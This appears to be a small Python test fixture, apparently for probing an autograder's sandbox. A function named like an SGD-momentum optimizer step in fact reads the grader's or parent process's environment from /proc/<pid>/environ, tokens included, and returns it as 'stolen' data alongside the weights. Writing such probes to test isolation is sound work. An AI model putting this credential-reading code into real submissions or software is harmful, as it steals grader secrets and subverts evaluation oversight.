"""Hostile: reads the grader's environment (its tokens, AUTOGRADER_ROOT) from /proc (the target is
config["grader_pid"], else the parent process)."""
import os


def sgd_momentum(w, dw, config=None):
    target = (config or {}).get("grader_pid") or os.getppid()
    try:
        with open(f"/proc/{target}/environ", "rb") as handle:
            stolen = handle.read().decode("utf-8", "replace")
        outcome = "allowed"
    except OSError as error:
        stolen, outcome = "", f"{type(error).__name__} errno {error.errno}"
    return w, {"attempts": {"environ": outcome}, "stolen": stolen, "target": target}
